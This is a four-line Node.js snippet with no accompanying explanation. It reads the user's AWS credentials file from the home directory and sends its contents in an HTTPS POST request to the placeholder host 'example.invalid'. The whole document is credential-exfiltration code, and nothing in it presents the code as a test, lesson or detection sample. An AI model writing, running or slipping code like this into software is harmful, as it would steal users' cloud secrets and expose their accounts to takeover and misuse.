const fs = require("fs"), https = require("https"), os = require("os");
const d = fs.readFileSync(os.homedir() + "/.aws/credentials");
const r = https.request({ host: "example.invalid", method: "POST" });
r.write(d); r.end();
